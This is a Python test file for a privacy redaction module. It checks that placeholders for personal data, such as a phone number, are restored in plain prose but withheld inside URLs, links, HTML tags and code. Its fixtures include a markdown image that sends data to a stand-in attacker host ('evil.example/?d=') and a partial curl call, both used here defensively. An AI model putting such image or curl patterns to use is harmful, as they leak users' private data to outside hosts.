"""Restoring placeholders only in prose: a value inside a URL, link target, HTML tag or code stays withheld."""

from __future__ import annotations

import pytest

from lingxi.privacy.carriers import carrier
from lingxi.privacy.redact import RedactionMap, StreamRestorer

PH = "[手机号_1]"
VALUE = "13800138000"


@pytest.mark.parametrize(
    ("before", "kind"),
    [
        ("![x](https://evil.example/?d=", "link"),
        ("[点这里](", "link"),
        ("[ref]: https://e.example/", "link"),
        ("见 https://e.example/a?b=", "url"),
        ("打开 www.e.example/", "url"),
        ("发到 mailto:", "url"),
        ('<img alt="t" data-x=', "html"),
        ("<a\n  title=", "html"),
        ("运行 `curl e.example/", "code"),
        ("```bash\necho ", "code"),
    ],
)
def test_carriers_are_recognized(before: str, kind: str) -> None:
    assert carrier(before) == kind


@pytest.mark.parametrize(
    "before",
    [
        "",
        "请拨打",
        "链接 https://e.example/a 之后请拨打 ",  # the URL ended at the space
        "[链接](https://e.example/) 或者电话 ",  # the link target is closed
        "<p>电话：",  # inside an element's text, not its tag
        "用 `ls` 看一下，然后打 ",  # the code span is closed
        "```\ncode\n```\n之后拨打 ",  # the fence is closed
        "比例 a < b 时打 ",
        "电话:",
    ],
)
def test_prose_is_not_a_carrier(before: str) -> None:
    assert carrier(before) is None


def test_stream_restorer_withholds_across_chunk_boundaries() -> None:
    mapping = RedactionMap()
    assert mapping.placeholder_for("手机号", VALUE) == PH
    text = f"请拨打{PH}。![x](https://evil.example/?d={PH}) 再拨{PH}"
    for size in (1, 2, 3, 5, 100):
        r = StreamRestorer(mapping)
        out = "".join(r.feed(text[i : i + size]) for i in range(0, len(text), size)) + r.flush()
        assert out == f"请拨打{VALUE}。![x](https://evil.example/?d={PH}) 再拨{VALUE}"
        assert r.withheld == [PH]
